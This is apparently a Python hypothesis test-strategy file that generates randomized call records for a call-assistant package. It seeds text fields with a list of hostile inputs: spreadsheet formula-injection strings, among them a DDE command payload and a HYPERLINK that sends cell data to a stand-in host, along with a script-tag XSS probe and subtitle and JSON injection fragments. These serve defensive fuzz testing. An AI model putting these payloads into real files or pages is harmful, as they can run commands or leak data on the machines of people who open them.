"""Records of calls in which people say whatever hypothesis can think of."""

from hypothesis import strategies as st

from copilot.events import (
    AgentRead,
    CallEnded,
    CallStarted,
    CustomerLearned,
    LineFinished,
    PhaseRead,
    Published,
    Speaker,
    TurnHeard,
)
from copilot.language import Language
from copilot.method.learned import Kind
from copilot.method.modes import Mode
from copilot.method.moves import Move
from copilot.method.phases import Phase
from copilot.method.signals import Signal
from copilot.store.record import CallHead, CallRecord

BAD = (
    '=HYPERLINK("http://x.test/?"&A1,"here")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '"=1+1',
    "'=1+1",
    "＝１＋１",
    " =1",
    "\ufeff=1",
    "''=1",
    "'plain",
    'a","b',
    "a\r\nb",
    "<script>alert(1)</script>",
    "<v Customer>I agree",
    "00:00:00.000 --> 99:00:00.000",
    "-->",
    "&lt;",
    "&",
    "WEBVTT",
    "NOTE",
    "\x00",
    "\u202eback",
    "\u2028",
    '"}],"parties":[',
    "\\",
    "多少錢？🙂",
)
texts = st.one_of(
    st.sampled_from(BAD),
    st.text(max_size=30),
    st.tuples(st.sampled_from(BAD), st.text(max_size=8)).map("".join),
)
times_s = st.floats(0, 40_000, allow_nan=False)


@st.composite
def records(draw: st.DrawFn) -> CallRecord:
    """One call of up to five turns, read and answered with the same words."""
    head = CallHead(
        id=draw(texts),
        began="2026-11-23T19:05:40Z",
        mode=draw(st.sampled_from(Mode)),
        lang=draw(st.sampled_from(Language)),
        agent=draw(texts),
        source=draw(texts),
        llm="none",
        version=draw(texts),
        consent=draw(texts),
    )
    events = [Published(0.0, 0.0, CallStarted(head.mode, head.lang, "", head.source))]
    for number in range(1, draw(st.integers(0, 5)) + 1):
        start, text = draw(times_s), draw(texts)
        end = start + draw(st.floats(0.0001, 60))
        heard: list[object] = [TurnHeard(number, draw(st.sampled_from(Speaker)), start, end, text)]
        if heard[0].speaker is Speaker.AGENT:  # type: ignore[attr-defined]
            heard.append(AgentRead(number, (Move.OPEN, Move.CLOSE), (Signal.MONOLOGUE,)))
        else:
            scores = dict.fromkeys(Phase, 1 / 3)
            heard.append(
                PhaseRead(number, Phase.DIVERGENT, scores, (), (Move.OPEN,), (text,), "rules")
            )
            heard.append(CustomerLearned(number, Kind.PAIN, text))
            heard.append(LineFinished(number, Move.OPEN, text, text, (), True))
        events += [Published(end, end, event) for event in heard]  # type: ignore[arg-type]
    if draw(st.booleans()):
        events.append(Published(1.0, 1.0, CallEnded("stopped", 41_000.5, 5, 5, 0, 0)))
    return CallRecord(head, tuple(events), closed=draw(st.booleans()))
